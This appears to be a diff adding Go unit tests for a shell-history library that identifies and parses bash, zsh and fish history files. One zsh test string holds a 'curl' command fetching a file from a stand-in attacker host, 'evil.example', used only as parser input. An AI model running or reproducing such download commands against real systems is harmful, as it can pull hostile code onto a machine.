@@ -0,0 +1,74 @@
+package shellhistory
+
+import (
+	"reflect"
+	"strings"
+	"testing"
+	"time"
+)
+
+func TestIdentify(t *testing.T) {
+	for fp, want := range map[string]File{
+		"/Users/bob/.bash_history":                                                 {Shell: Bash},
+		"/Users/bob/.zsh_history":                                                  {Shell: Zsh},
+		"/Users/bob/.python_history":                                               {Shell: Bash},
+		"/Users/bob/.local/share/fish/fish_history":                                {Shell: Fish},
+		"/Users/bob/.bash_sessions/0A1B2C3D-0000-4000-8000-00000000000A.history":   {Shell: Bash, SessionID: "0A1B2C3D-0000-4000-8000-00000000000A"},
+		"/Users/bob/.zsh_sessions/0A1B2C3D-0000-4000-8000-00000000000B.historynew": {Shell: Zsh, SessionID: "0A1B2C3D-0000-4000-8000-00000000000B"},
+	} {
+		if got, ok := Identify(fp); !ok || got != want {
+			t.Errorf("Identify(%s) = %+v, %v, want %+v", fp, got, ok, want)
+		}
+	}
+	for _, fp := range []string{"/Users/bob/.bash_sessions/0A1B2C3D-0000-4000-8000-00000000000A.session", "/Users/bob/.zsh_sessions/_expiration"} {
+		if _, ok := Identify(fp); ok {
+			t.Errorf("Identify(%s) is a history file", fp)
+		}
+	}
+}
+
+func TestParseBash(t *testing.T) {
+	commands, err := ParseBash(strings.NewReader("ls\n#1596268800\nsudo su\n\n#notatime\nwhoami\n"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := []Command{
+		{Index: 0, Command: "ls"},
+		{Index: 1, Command: "sudo su", Time: time.Unix(1596268800, 0).UTC()},
+		{Index: 2, Command: "#notatime"},
+		{Index: 3, Command: "whoami"},
+	}
+	if !reflect.DeepEqual(commands, want) {
+		t.Errorf("ParseBash() = %+v, want %+v", commands, want)
+	}
+}
+
+func TestParseZsh(t *testing.T) {
+	commands, err := ParseZsh(strings.NewReader(": 1596268800:0;cd /tmp\n: 1596268805:12;curl -o x \\\nhttps://evil.example/x\nplain command\n: 1596268900:0;echo \xe2\x80\x83\xb4\n"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := []Command{
+		{Index: 0, Command: "cd /tmp", Time: time.Unix(1596268800, 0).UTC(), HasDuration: true},
+		{Index: 1, Command: "curl -o x \nhttps://evil.example/x", Time: time.Unix(1596268805, 0).UTC(), Duration: 12 * time.Second, HasDuration: true},
+		{Index: 2, Command: "plain command"},
+		{Index: 3, Command: "echo \u2014", Time: time.Unix(1596268900, 0).UTC(), HasDuration: true},
+	}
+	if !reflect.DeepEqual(commands, want) {
+		t.Errorf("ParseZsh() = %+v, want %+v", commands, want)
+	}
+}
+
+func TestParseFish(t *testing.T) {
+	commands, err := ParseFish(strings.NewReader("- cmd: ls\n  when: 1596268800\n- cmd: echo a\\nb \\\\\n  when: 1596268801\n  paths:\n    - /tmp\n"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := []Command{
+		{Index: 0, Command: "ls", Time: time.Unix(1596268800, 0).UTC()},
+		{Index: 1, Command: "echo a\nb \\", Time: time.Unix(1596268801, 0).UTC()},
+	}
+	if !reflect.DeepEqual(commands, want) {
+		t.Errorf("ParseFish() = %+v, want %+v", commands, want)
+	}
+}